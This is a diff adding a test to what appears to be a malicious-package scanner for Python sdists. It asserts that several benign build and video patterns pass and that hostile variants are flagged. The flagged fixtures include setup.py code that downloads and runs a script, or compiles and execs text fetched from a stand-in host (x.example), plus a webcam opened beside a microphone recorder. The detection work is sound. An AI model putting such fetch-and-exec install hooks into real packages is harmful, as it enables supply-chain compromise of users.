@@ -1250,3 +1250,47 @@ def test_twelfth_held_out_batch_shapes() -> None:
     for files in bad:
         result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
         assert result != "clean", (sorted(files), findings)
+
+
+def test_thirteenth_held_out_batch_shapes() -> None:
+    """Causes behind three of the thirteenth held-out batch's false positives: a build hook run from its
+    shipped path with ``runpy.run_path`` (charset-normalizer, skypilot-nightly), a version module compiled
+    with a filename taken from a module object while another function reuses the name ``source`` for a
+    Path (pyerfa), and ``cv2.VideoCapture`` playing a video file or stream (mavproxy)."""
+    runpath = ("from pathlib import Path\nfrom runpy import run_path\nfrom setuptools import setup\n\n"
+               "hook = Path(__file__).parent / 'build_hooks' / 'pgo_hook.py'\ncmdclass = {}\nif hook.exists():\n"
+               "    cmdclass['build_ext'] = run_path(str(hook))['PGOBuildExt']\n"
+               "setup(name='helperlib', version='0.1', packages=['helperlib'], cmdclass=cmdclass)\n")
+    compiled = ("import pathlib, types\nfrom setuptools import setup\n\ndef norm(source):\n"
+                "    source = pathlib.Path(source)\n    return source\n\n"
+                "with open('helperlib/_version_src.py') as fd:\n    source = fd.read()\n"
+                "mod = types.ModuleType('v')\nmod.__file__ = 'helperlib/_version_src.py'\n"
+                "code = compile(source, mod.__file__, 'exec')\nexec(code, mod.__dict__)\n"
+                "setup(name='helperlib', version=mod.__dict__.get('v', '0.1'), packages=['helperlib'])\n")
+    video = ("import cv2\n\ndef frames(filename, url):\n"
+             "    for src in (cv2.VideoCapture(filename), cv2.VideoCapture(url), cv2.VideoCapture('clip.mp4')):\n"
+             "        yield src.read()\n")
+    grab = ("import pyaudio\n\ndef record():\n    return pyaudio.PyAudio().open(format=8, channels=1, rate=16000,"
+            " input=True)\n")
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/_version_src.py": "v = '0.1'\n",
+            "build_hooks/pgo_hook.py": "class PGOBuildExt: pass\n"}
+    cases: list[dict[str, str]] = [
+        {"setup.py": runpath}, {"setup.py": compiled},
+        {"helperlib/__init__.py": "", "helperlib/video.py": video + grab},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    # a fetched script run with run_path, compile of fetched text, and a camera opened by its index beside
+    # the microphone are still judged
+    bad: list[dict[str, str]] = [
+        {"setup.py": runpath.replace("if hook.exists():", "import urllib.request\nurllib.request.urlretrieve("
+                                     "'http://x.example/h.py', str(hook))\nif hook.exists():")},
+        {"setup.py": compiled.replace(
+            "with open('helperlib/_version_src.py') as fd:",
+            "import urllib.request\nwith urllib.request.urlopen('http://x.example/v') as fd:")},
+        {"helperlib/video.py": video.replace("cv2.VideoCapture(filename)", "cv2.VideoCapture(0)") + grab},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (sorted(files), findings)
